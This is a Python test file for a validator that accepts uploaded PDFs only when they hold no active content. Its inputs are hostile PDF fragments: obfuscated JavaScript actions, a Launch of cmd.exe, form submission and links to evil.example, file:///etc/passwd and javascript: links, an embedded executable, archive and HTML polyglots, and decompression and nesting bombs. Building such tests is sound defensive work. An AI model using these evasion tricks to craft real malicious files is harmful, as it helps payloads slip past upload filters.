"""PDF documents come in as they are, or not at all."""

import hashlib
import zlib
from pathlib import Path

import pytest

from backoffice.events.errors import Invalid
from tests.backoffice.files.making import archive, packed, pdf, revised, stream, taken, written

JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def refusal(content: bytes, name: str = "paper.pdf") -> Invalid:
    with pytest.raises(Invalid) as refused:
        taken(content, name)
    assert f"«{name}»" in refused.value.sentence
    return refused.value


def test_it_keeps_a_sound_pdf_byte_for_byte() -> None:
    content = pdf()
    safe = taken(content, "Trademark certificate.PDF")
    assert safe.content.read() == content
    assert (safe.filename, safe.media_type, safe.size) == (
        "Trademark certificate.PDF", "application/pdf", len(content),
    )  # fmt: skip
    assert safe.sha256 == hashlib.sha256(content).hexdigest()
    assert safe.notes == []


def test_it_keeps_what_many_honest_pdfs_hold() -> None:
    """Bookmarks that jump, a first page to open at, links to web pages, forms, object streams, later revisions."""
    link = "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.com/a) >> >>"
    honest = pdf(
        "<< /S /GoTo /D [3 0 R /Fit] >>",
        "<< /Fields [] /SigFlags 3 >>",
        packed({30: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", 31: "[1 2 (three)]"}),
        "<< /Font << /JS 30 0 R /EF 30 0 R >> >>",
        catalog="/OpenAction 5 0 R /AcroForm 6 0 R /AA << /WC << /S /Named /N /Print >> >>",
        page=f"/Annots [{link}] /AA << /O [3 0 R /XYZ 0 0 0] >>",
    )
    assert taken(honest).kind == "pdf"
    assert taken(revised(honest, {4: stream(b"BT ET").decode()})).kind == "pdf"


@pytest.mark.parametrize(
    ("content", "found", "words"),
    [
        (pdf(catalog=f"/OpenAction {JS}"), "javascript", "JavaScript"),
        (pdf(JS, catalog="/OpenAction 5 0 R"), "javascript", "JavaScript"),
        (pdf(catalog="/Names << /JavaScript << /Names [(a) 5 0 R] >> >>"), "javascript", "JavaScript"),
        (pdf("<< /S /Java#53cript /JS (1) >>"), "javascript", "JavaScript"),
        (pdf("<< /S 6 0 R /JS 7 0 R >>", "/JavaScript", stream(b"app.alert(1)")), "javascript", "JavaScript"),
        (pdf("<< /S /GoTo /S /JavaScript /D [3 0 R] >>"), "javascript", "JavaScript"),
        (pdf("<</S/JavaScript%comment\n/JS<6170702e616c657274>>>"), "javascript", "JavaScript"),
        (pdf(packed({20: JS})), "javascript", "JavaScript"),
        (pdf(packed({20: JS}).replace(b"/Type /ObjStm", b"/Type 9 0 R")), "javascript", "JavaScript"),
        (revised(pdf(), {5: JS}), "javascript", "JavaScript"),
        (revised(pdf(JS), {5: "null"}), "javascript", "JavaScript"),
        (pdf("<< /S /Launch /F (cmd.exe) >>"), "launch", "starts a program"),
        (pdf("<< /S /SubmitForm /F (https://evil.example) >>"), "submit", "sends what is filled in"),
        (pdf(catalog="/OpenAction << /S /URI /URI (https://evil.example) >>"), "automatic", "runs by itself"),
        (pdf("<< /S /URI /URI (https://a.example) >>", catalog="/OpenAction 5 0 R"), "automatic", "by itself"),
        (pdf(page="/AA << /O << /S /GoTo /D [3 0 R] /Next << /S /URI /URI (x) >> >> >>"), "automatic", "by itself"),
        (pdf(catalog="/Names << /EmbeddedFiles << /Names [] >> >>"), "embedded", "files embedded"),
        (pdf("<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>", stream(b"MZ")), "embedded", "files embedded"),
        (pdf(page="/Annots [<< /Subtype /FileAttachment >>]"), "embedded", "files embedded"),
        (pdf(catalog="/Collection << >>"), "embedded", "files embedded"),
        (pdf(page="/Annots [<< /Subtype /RichMedia >>]"), "media", "films"),
        (pdf(page="/Annots [<< /Subtype /3D >>]"), "media", "3D"),
        (pdf(catalog="/AcroForm << /XFA [(a) 5 0 R] >>"), "xfa", "XFA"),
        (pdf("<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) >>"), "other_file", "jump into another file"),
        (pdf("<< /S /URI /URI (javascript:alert\\(1\\)) >>"), "link", "link that runs"),
        (pdf("<< /S /URI /URI (file:///etc/passwd) >>"), "link", "link that runs"),
    ],
)  # fmt: skip
def test_it_refuses_a_pdf_that_can_do_something(content: bytes, found: str, words: str) -> None:
    refused = refusal(content)
    assert refused.code == "file_has_active_content"
    assert refused.data["found"] == [found]
    assert words in refused.sentence
    assert "Print it to a new PDF" in refused.sentence


def test_it_names_everything_it_found() -> None:
    refused = refusal(pdf(JS, "<< /S /Launch /F (a) >>", page="/Annots [<< /Subtype /Movie >>]"))
    assert refused.data["found"] == ["javascript", "launch", "media"]


def test_it_finds_a_script_that_no_table_of_contents_leads_to() -> None:
    """A reader that mends broken files would find it."""
    sound = pdf()
    hidden = sound.replace(b"xref\n0 1", b"77 0 obj\n" + JS.encode() + b"\nendobj\nxref\n0 1", 1)
    assert refusal(hidden).code == "file_has_active_content"


def test_it_finds_a_script_in_what_looks_like_a_stream() -> None:
    hidden = pdf(stream(b"\nendobj\n9 0 obj " + JS.encode() + b" endobj\n"))
    assert refusal(hidden).code == "file_has_active_content"


@pytest.mark.parametrize(
    "holder",
    [
        packed({20: "null"}, squeeze=lambda data: data).replace(b"/FlateDecode", b"/JPXDecode"),
        packed({20: "null"}).replace(b"/N 1", b"/N 8 0 R"),
        packed({20: "null"}, squeeze=lambda data: b"no deflated data at all"),
    ],
    ids=["packed as a picture", "counted elsewhere", "not packed"],
)
def test_it_refuses_object_streams_that_it_cannot_look_into(holder: bytes) -> None:
    assert refusal(pdf(holder)).code == "file_damaged"


def test_it_looks_into_object_streams_that_were_predicted_and_packed() -> None:
    """PNG's predictor «none» puts a zero before each row; 7.4.4.4."""
    first, body = "20 0 ", JS
    data = (first + body).encode().ljust(100)
    rows = b"".join(b"\0" + data[at : at + 10] for at in range(0, len(data), 10))
    words = (
        f"/Type /ObjStm /N 1 /First {len(first)} /Filter /FlateDecode "
        "/DecodeParms << /Predictor 12 /Columns 10 >>"
    )
    assert refusal(pdf(stream(zlib.compress(rows), words))).code == "file_has_active_content"


@pytest.mark.parametrize(
    "content",
    [
        written({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                 3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
                 4: "<< /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -44 >>"},
                "/Encrypt 4 0 R /ID [(a) (b)]"),
        revised(pdf(), {9: "<< /Filter /Standard >>"}, "/Encrypt 9 0 R"),
    ],
    ids=["from the first", "later"],
)  # fmt: skip
def test_it_refuses_a_protected_pdf(content: bytes) -> None:
    refused = refusal(content)
    assert refused.code == "file_encrypted"
    assert "without protection" in refused.sentence


@pytest.mark.parametrize(
    "content",
    [
        pdf() + b"GIF89a and more",
        pdf() + archive(),
        pdf() + b"<script>alert(1)</script>",
        pdf().replace(b"%%EOF\n", archive()[:-2] + b"\x06\0%%EOF\n"),
        b"%PDF-1.7\n<html><script>alert(1)</script>\n" + pdf()[9:],
        b"%PDF-1.7\n%<script>alert(1)</script>\n" + pdf()[9:],
        b"%PDF-1.7\nRar!\x1a\x07\x01\0\n" + pdf()[9:],
        pdf(stream(b"7z\xbc\xaf\x27\x1c\0\4")),
    ],
    ids=["GIF after", "ZIP after", "page after", "ZIP around the end", "page before", "page in a comment", "RAR", "7z"],
)  # fmt: skip
def test_it_refuses_a_pdf_that_is_something_else_too(content: bytes) -> None:
    assert refusal(content).code == "file_is_two"


def test_it_refuses_what_stands_before_a_pdf() -> None:
    refused = refusal(b"\n<html>" + b" " * 50 + pdf())
    assert (refused.code, refused.data["found"]) == ("file_type_refused", "web_page")
    assert refusal(b"\0\0\x01" + pdf()).data["found"] == "pdf_with_something_before"


@pytest.mark.parametrize(
    "content",
    [
        pdf()[:300],
        b"%PDF-1.7\n1 0 obj\n" + b"\xff" * 500 + b"\n%%EOF\n",
        written({1: "<< /Type /Catalog >>"}),
        written({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [] /Count 0 >>"}),
        written({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}),
    ],
    ids=["cut off", "noise", "no pages", "no page", "goes round in circles"],
)
def test_it_refuses_a_damaged_pdf(content: bytes) -> None:
    assert refusal(content).code == "file_damaged"


def test_it_refuses_an_object_stream_that_unpacks_without_end() -> None:
    bomb = zlib.compress(b" " * 120_000_000, 9)
    words = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
    assert refusal(pdf(stream(bomb, words))).code in ("file_damaged", "file_too_heavy")


def test_it_refuses_brackets_that_nest_without_end() -> None:
    assert refusal(pdf("[" * 200_000 + "]" * 200_000)).code in ("file_damaged", "file_too_heavy")


@pytest.mark.parametrize("name", ["libtasn1-doc/libtasn1.pdf", "shared-mime-info/shared-mime-info-spec.pdf"])
def test_it_takes_real_pdfs(name: str) -> None:
    path = Path("/usr/share/doc") / name
    if not path.exists():
        pytest.skip("not on this machine")
    assert taken(path.read_bytes()).size == path.stat().st_size
